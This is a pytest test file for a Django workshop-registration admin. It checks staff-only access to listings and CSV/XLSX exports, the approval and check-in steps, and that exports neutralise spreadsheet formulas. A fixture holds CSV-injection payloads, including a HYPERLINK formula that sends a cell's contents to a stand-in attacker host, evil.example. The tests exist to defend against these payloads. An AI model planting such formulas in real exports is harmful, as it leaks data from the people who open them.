"""Registrations in the admin: staff list, export and run the organisers' steps; nobody else sees them."""

import pytest

from tests.workshops.conftest import details
from workshops import services
from workshops.models import Registration
from workshops.models import RegistrationStatus as S

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("module_world")]


@pytest.fixture
def pending(make_workshop):
    workshop = make_workshop(requires_approval=True)
    registration = services.register(workshop, **details(1))
    return services.confirm(registration)


def test_staff_list_export_and_approve(client, secretary, pending):
    client.force_login(secretary)
    listing = client.get("/admin/registrations/").content.decode()
    assert "participant1@gouv.cd" in listing
    export = client.get("/admin/registrations/?export=csv")
    assert export.status_code == 200 and "participant1@gouv.cd" in b"".join(export.streaming_content).decode()
    url = f"/admin/registrations/{pending.pk}/step/approve/"
    assert client.get(url).status_code == 200
    assert Registration.objects.get().status == S.PENDING_APPROVAL  # GET only asks
    client.post(url)
    assert Registration.objects.get().status == S.CONFIRMED
    response = client.post(url, follow=True)  # approving twice is refused with a message
    assert "Only a registration pending approval can be approved" in response.content.decode()
    client.post(f"/admin/registrations/{pending.pk}/step/check_in/")
    assert Registration.objects.get().status == S.ATTENDED


def test_focal_points_and_visitors_see_no_participant(client, pending, focal_point):
    assert client.get("/admin/registrations/").status_code == 302
    assert client.post(f"/admin/registrations/{pending.pk}/step/approve/").status_code == 302
    client.force_login(focal_point)
    for url in (
        "/admin/registrations/",
        f"/admin/registrations/edit/{pending.pk}/",
        "/admin/registrations/?export=csv",
    ):
        response = client.get(url)
        assert response.status_code in (302, 403) and "participant1@gouv.cd" not in response.content.decode()
    assert client.post(f"/admin/registrations/{pending.pk}/step/approve/").status_code in (302, 403)
    assert Registration.objects.get().status == S.PENDING_APPROVAL


HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "organisation": "@SUM(1)",
    "job_title": "+1+1",
    "accessibility_needs": "-2+3\tand a tab",
}


def test_exports_neutralise_formulas_and_control_characters(client, secretary, make_workshop):
    import csv
    import io

    from openpyxl import load_workbook

    workshop = make_workshop()
    services.register(workshop, **details(1, **HOSTILE))
    services.register(workshop, **details(2, name="Amina\x07 Diallo\x1b"))
    client.force_login(secretary)

    export = client.get("/admin/registrations/?export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    hostile = next(row for row in rows if "participant1" in row["E-mail"])
    for field, typed in HOSTILE.items():
        cell = next(value for value in hostile.values() if value.endswith(typed))
        assert cell == "'" + typed, field  # shown as text, not run as a formula
    assert next(row for row in rows if "participant2" in row["E-mail"])["E-mail"] == "participant2@gouv.cd"

    export = client.get("/admin/registrations/?export=xlsx")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content)), read_only=True).active
    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "Amina Diallo" in cells
    assert HOSTILE["name"] in cells  # kept as text: a string cell, not a formula
